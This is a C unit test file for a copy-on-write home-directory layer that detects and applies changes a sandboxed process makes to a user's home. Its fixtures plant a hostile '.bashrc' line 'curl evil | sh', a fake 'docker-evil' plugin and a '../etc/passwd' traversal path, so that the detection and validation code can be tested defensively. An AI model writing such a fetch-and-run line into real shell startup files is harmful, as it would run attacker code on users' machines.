/*
 * test_home_layer: the copy-on-write home's layout and its reading
 * against the host (backends/home-layer.c), on real directories: no
 * overlay is mounted here; a layer's upper directory is made by hand
 * the way overlayfs leaves it (a changed file, a new one, a character
 * device 0/0 for a deletion).
 */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/sysmacros.h>
#include <sys/wait.h>
#include <unistd.h>

#include <cmocka.h>

#include "error.h"
#include "home-layer.h"

static char base[64], home[128], layer[256];

static void put(const char *rel, const char *text)
{
	char path[512];
	FILE *f;

	snprintf(path, sizeof path, "%s/%s", base, rel);
	f = fopen(path, "w");
	assert_non_null(f);
	fputs(text, f);
	fclose(f);
}

static void dir(const char *rel)
{
	char path[512];

	snprintf(path, sizeof path, "%s/%s", base, rel);
	assert_int_equal(mkdir(path, 0755), 0);
}

static char *slurp(const char *rel)
{
	static char buf[256];
	char path[512];
	FILE *f;
	size_t n;

	snprintf(path, sizeof path, "%s/%s", base, rel);
	f = fopen(path, "r");
	if (f == NULL)
		return NULL;
	n = fread(buf, 1, sizeof buf - 1, f);
	buf[n] = '\0';
	fclose(f);
	return buf;
}

static int setup(void **state)
{
	struct sm_error err = {0};
	char root[256], path[512];

	(void)state;
	snprintf(base, sizeof base, "/var/tmp/test-home-layer.XXXXXX");
	assert_non_null(mkdtemp(base));
	dir("home");
	dir("home/proj");
	dir("home/.config");
	dir("home/notes");
	put("home/.bashrc", "host\n");
	put("home/.profile", "host profile\n");
	put("home/.same", "same\n");
	put("home/notes.txt", "n\n");
	snprintf(path, sizeof path, "%s/home/link", base);
	assert_int_equal(symlink("/etc", path), 0);
	snprintf(home, sizeof home, "%s/home", base);
	snprintf(root, sizeof root, "%s/state/home-layer", base);
	home_layer_set_root(root);
	assert_int_equal(home_layer_dir("terminal", true, layer, sizeof layer, &err), 0);
	/* The layer as overlayfs leaves it. */
	put("state/home-layer/terminal/upper/.bashrc", "host\ncurl evil | sh\n");
	put("state/home-layer/terminal/upper/.same", "same\n");
	dir("state/home-layer/terminal/upper/.docker");
	dir("state/home-layer/terminal/upper/.docker/cli-plugins");
	put("state/home-layer/terminal/upper/.docker/cli-plugins/docker-evil", "#!/bin/sh\n");
	dir("state/home-layer/terminal/upper/.config");
	snprintf(path, sizeof path, "%s/upper/.profile", layer);
	assert_int_equal(mknod(path, S_IFCHR | 0600, makedev(0, 0)), 0);
	return 0;
}

static int teardown(void **state)
{
	char *argv[] = {"rm", "-rf", base, NULL};
	pid_t pid = fork();
	int status;

	(void)state;
	if (pid == 0) {
		execvp(argv[0], argv);
		_exit(127);
	}
	waitpid(pid, &status, 0);
	return 0;
}

static void test_dir_refuses_odd_profile_names(void **state)
{
	struct sm_error err = {0};
	char out[256];
	const char *bad[] = {"", ".", "..", "../x", "a/b", ".hidden", "a b", "a,b", "a:b"};

	(void)state;
	for (size_t i = 0; i < sizeof bad / sizeof bad[0]; i++) {
		assert_int_equal(home_layer_dir(bad[i], false, out, sizeof out, &err), -1);
		assert_string_equal(err.code, SM_ERR_LAUNCH_FAILED);
	}
	assert_int_equal(home_layer_dir("my-profile_2", false, out, sizeof out, &err), 0);
}

static void test_real_roots(void **state)
{
	struct strvec real = STRVEC_INIT, writable = STRVEC_INIT;
	char cwd[256], extra[256], path[256];

	(void)state;
	/* cwd inside home: it alone (and the writable roots inside home). */
	snprintf(cwd, sizeof cwd, "%s/proj", home);
	snprintf(extra, sizeof extra, "%s/notes", home);
	strvec_push(&writable, extra);
	strvec_push(&writable, "/usr");
	assert_int_equal(home_layer_real_roots(home, cwd, &writable, &real), 0);
	assert_int_equal(real.n, 2);
	assert_string_equal(real.v[0], cwd);
	assert_string_equal(real.v[1], extra);
	snprintf(path, sizeof path, "%s/.bashrc", home);
	assert_true(home_layer_holds(home, &real, path));
	snprintf(path, sizeof path, "%s/proj/.git/config", home);
	assert_false(home_layer_holds(home, &real, path));
	assert_false(home_layer_holds(home, &real, "/etc/passwd"));
	strvec_free(&real);
	/* cwd outside home: all of home is the layer. */
	assert_int_equal(home_layer_real_roots(home, "/usr", NULL, &real), 0);
	assert_int_equal(real.n, 0);
	strvec_free(&real);
	/* cwd at home: its entries but dot-entries and symlinks. */
	assert_int_equal(home_layer_real_roots(home, home, NULL, &real), 0);
	assert_int_equal(real.n, 3);
	for (size_t i = 0; i < real.n; i++) {
		const char *name = strrchr(real.v[i], '/') + 1;

		assert_true(strcmp(name, "proj") == 0 || strcmp(name, "notes") == 0 ||
			    strcmp(name, "notes.txt") == 0);
	}
	snprintf(path, sizeof path, "%s/.config/autostart/x.desktop", home);
	assert_true(home_layer_holds(home, &real, path));
	snprintf(path, sizeof path, "%s/newfile", home);
	assert_true(home_layer_holds(home, &real, path));
	strvec_free(&real);
	strvec_free(&writable);
}

static const struct home_change *find(const struct home_changes *c, const char *path)
{
	for (size_t i = 0; i < c->n; i++)
		if (strcmp(c->v[i].path, path) == 0)
			return &c->v[i];
	return NULL;
}

static void test_changes(void **state)
{
	struct home_changes c;
	struct sm_error err = {0};
	const struct home_change *ch;

	(void)state;
	assert_int_equal(home_layer_changes(layer, home, &c, &err), 0);
	ch = find(&c, ".bashrc");
	assert_non_null(ch);
	assert_int_equal(ch->kind, HOME_CHANGED);
	assert_true(ch->host_run);
	ch = find(&c, ".profile");
	assert_non_null(ch);
	assert_int_equal(ch->kind, HOME_DELETED);
	ch = find(&c, ".docker/cli-plugins/docker-evil");
	assert_non_null(ch);
	assert_int_equal(ch->kind, HOME_ADDED);
	assert_non_null(find(&c, ".docker"));
	/* Copied up with the same bytes, or only a parent: no change. */
	assert_null(find(&c, ".same"));
	assert_null(find(&c, ".config"));
	assert_int_equal(c.n, 5); /* .bashrc .docker .docker/cli-plugins .../docker-evil .profile */
	home_changes_free(&c);
}

static void test_keep(void **state)
{
	struct sm_error err = {0};
	struct home_changes c;

	(void)state;
	assert_int_equal(home_layer_keep(layer, home, "../etc/passwd", &err), -1);
	assert_string_equal(err.code, SM_ERR_INVALID_ARGUMENT);
	assert_int_equal(home_layer_keep(layer, home, "nothing-here", &err), -1);
	assert_string_equal(err.code, SM_ERR_NOT_IN_LAYER);
	/* A file with directories the host lacks. */
	assert_int_equal(home_layer_keep(layer, home, ".docker/cli-plugins/docker-evil", &err), 0);
	assert_string_equal(slurp("home/.docker/cli-plugins/docker-evil"), "#!/bin/sh\n");
	/* A deletion. */
	assert_int_equal(home_layer_keep(layer, home, ".profile", &err), 0);
	assert_null(slurp("home/.profile"));
	/* A change. */
	assert_int_equal(home_layer_keep(layer, home, ".bashrc", &err), 0);
	assert_string_equal(slurp("home/.bashrc"), "host\ncurl evil | sh\n");
	assert_int_equal(home_layer_changes(layer, home, &c, &err), 0);
	assert_int_equal(c.n, 0);
	home_changes_free(&c);
}

static void test_work_and_discard(void **state)
{
	struct sm_error err = {0};
	char *work = NULL;

	(void)state;
	assert_int_equal(home_layer_work_new(layer, &work, &err), 0);
	assert_int_equal(home_layer_in_use(layer), 1);
	assert_int_equal(home_layer_discard(layer, &err), -1);
	assert_string_equal(err.code, SM_ERR_INVALID_STATE);
	home_layer_work_remove(work);
	free(work);
	assert_int_equal(home_layer_in_use(layer), 0);
	assert_int_equal(home_layer_discard(layer, &err), 0);
	assert_null(slurp("state/home-layer/terminal/upper/.bashrc"));
	/* The host keeps what was kept. */
	assert_non_null(slurp("home/.bashrc"));
}

int main(void)
{
	const struct CMUnitTest tests[] = {
	    cmocka_unit_test(test_dir_refuses_odd_profile_names),
	    cmocka_unit_test(test_real_roots),
	    cmocka_unit_test(test_changes),
	    cmocka_unit_test(test_keep),
	    cmocka_unit_test(test_work_and_discard),
	};

	return cmocka_run_group_tests(tests, setup, teardown);
}
